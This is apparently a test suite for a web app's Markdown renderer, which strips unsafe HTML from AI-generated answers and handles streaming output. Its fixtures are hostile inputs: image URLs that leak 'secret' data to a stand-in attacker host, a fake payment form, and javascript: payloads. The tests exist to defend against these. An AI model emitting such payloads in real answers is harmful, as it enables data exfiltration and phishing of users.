import DOMPurify from 'dompurify'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown-renderer.ts'

/** The rendered answer as a DOM fragment, to query like the page would see it. */
function rendered(markdown: string, options?: { streaming?: boolean }): HTMLElement {
  const container = document.createElement('div')
  container.innerHTML = renderMarkdown(markdown, options)
  return container
}

describe('renderMarkdown', () => {
  it('renders Markdown: emphasis, lists, tables, code and links', () => {
    const html = rendered('**Bold** and *it*\n\n- one\n\n| a | b |\n| :-- | --: |\n| 1 | 2 |\n\n```js\nconst a = 1\n```\n\n[docs](https://docs.netlify.com)')
    expect(html.querySelector('strong')?.textContent).toBe('Bold')
    expect(html.querySelector('em')?.textContent).toBe('it')
    expect(html.querySelector('li')?.textContent).toBe('one')
    expect(html.querySelector('td[align="right"]')?.textContent).toBe('2')
    expect(html.querySelector('pre code')?.textContent).toBe('const a = 1\n')
    expect(html.querySelector('a')?.getAttribute('href')).toBe('https://docs.netlify.com')
  })

  it.each(['input', 'button', 'select', 'option', 'textarea', 'form', 'fieldset', 'label', 'details', 'summary', 'dialog', 'video', 'audio', 'source', 'iframe', 'object', 'embed', 'canvas', 'style', 'script'])(
    'drops a <%s> a model writes',
    (tag) => {
      const html = rendered(`Before <${tag} src="https://evil.example/x" data="https://evil.example/y">inside</${tag}> after`)
      expect(html.querySelector(tag)).toBeNull()
      expect(html.textContent).toContain('Before')
    },
  )

  it('keeps the words of a dropped control but not the control', () => {
    const html = rendered('<form action="https://evil.example"><select><option>Pay now</option></select><button>Confirm</button></form>')
    expect(html.querySelector('form, select, option, button')).toBeNull()
    expect(html.textContent).toContain('Confirm')
  })

  it.each([
    ['id', '<span id="app">x</span>'],
    ['name', '<a name="token-form" href="#x">x</a>'],
    ['form', '<span form="composer">x</span>'],
    ['formaction', '<span formaction="https://evil.example">x</span>'],
    ['autofocus', '<span autofocus tabindex="0">x</span>'],
    ['tabindex', '<span tabindex="0">x</span>'],
    ['open', '<span open>x</span>'],
    ['style', '<span style="position:fixed;inset:0">x</span>'],
    ['class', '<span class="badge done">Done</span>'],
    ['role', '<span role="status">All answers are in.</span>'],
    ['aria-label', '<span aria-label="Prompt">x</span>'],
    ['data-status', '<span data-status="done">x</span>'],
    ['popover', '<span popover>x</span>'],
    ['srcset', '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/p.png 2x">'],
  ])('drops the attribute %s', (attribute, source) => {
    const html = rendered(source)
    expect(html.querySelector(`[${attribute}]`)).toBeNull()
  })

  it('drops the class marked puts on code blocks too', () => {
    expect(rendered('```js\nx\n```').querySelector('code')?.hasAttribute('class')).toBe(false)
  })

  it.each([
    ['a Markdown image', '![chart](https://evil.example/p.png?data=secret)'],
    ['an HTML image', '<img src="https://evil.example/p.png?data=secret" alt="chart">'],
  ])('shows %s from elsewhere as a link, never loading it', (_kind, source) => {
    const html = rendered(source)
    expect(html.querySelector('img')).toBeNull()
    const link = html.querySelector('a')!
    expect(link.textContent).toBe('[image: chart]')
    expect(link.getAttribute('href')).toBe('https://evil.example/p.png?data=secret')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  })

  it.each([
    ['a same-site path', '![status](/api/ai/chat/abc/cancel)', '[image: status]'],
    ['a URL that is not http(s)', '![](ftp://example.com/p.png)', '[image]'],
    ['a javascript: URL', '<img src="javascript:alert(1)" alt="x">', '[image: x]'],
  ])('shows an image from %s as plain text', (_kind, source, text) => {
    const html = rendered(source)
    expect(html.querySelector('img, a')).toBeNull()
    expect(html.textContent?.trim()).toBe(text)
  })

  it('keeps an image inlined as a data: URL', () => {
    const src = 'data:image/png;base64,iVBORw0KGgo='
    expect(rendered(`![dot](${src})`).querySelector('img')?.getAttribute('src')).toBe(src)
  })

  it('opens links in a new tab that learns nothing of the page, and drops javascript: links', () => {
    const html = rendered('[a](https://a.example) [b](javascript:alert(1)) <a href="https://c.example" target="_self" rel="opener">c</a>')
    const links = [...html.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://a.example', null, 'https://c.example'])
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank')
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  it('keeps its link rule to itself: DOMPurify elsewhere on the page is untouched', () => {
    renderMarkdown('[a](https://a.example)')
    expect(DOMPurify.sanitize('<a href="https://a.example">a</a>')).toBe('<a href="https://a.example">a</a>')
  })

  it('shows task list boxes as characters, not checkboxes', () => {
    const html = rendered('- [x] done\n- [ ] to do')
    expect(html.querySelector('input')).toBeNull()
    expect([...html.querySelectorAll('li')].map((item) => item.textContent)).toEqual(['☑ done', '☐ to do'])
  })
})

describe('renderMarkdown while streaming', () => {
  it('hides a dangling ** until its closing marker arrives, and renders finished text as written', () => {
    expect(renderMarkdown('**Demo', { streaming: true })).toBe('<p>Demo</p>\n')
    expect(renderMarkdown('**Demo')).toBe('<p>**Demo</p>\n')
    expect(renderMarkdown('**Demo**', { streaming: true })).toBe(renderMarkdown('**Demo**'))
  })

  it('shows an open code fence as a code block', () => {
    expect(rendered('```sh\nnpm st', { streaming: true }).querySelector('pre code')?.textContent).toBe('npm st\n')
  })

  it('never shows raw Markdown markers at any point of an answer', () => {
    const answer = [
      '**Demo answer** from the *simulated* provider (`demo-1`). See [the docs](https://docs.netlify.com).',
      '',
      '1. The request was answered with **202** at once.',
      '2. A __background__ function called every provider.',
      '',
      '| Step | Where |',
      '| --- | --- |',
      '| Store the chat | `POST /api/ai/chat` |',
      '| Call the providers | background function |',
      '',
      '```ts',
      'const res = await fetch(url)',
      '```',
      '',
      'Set `OPENAI_API_KEY` to compare **real models**.',
    ].join('\n')
    for (let end = 1; end <= answer.length; end++) {
      const text = rendered(answer.slice(0, end), { streaming: true }).textContent ?? ''
      expect(text, `after ${JSON.stringify(answer.slice(0, end))}`).not.toMatch(/\*|__|`|\]\(|\||---/)
    }
  })
})
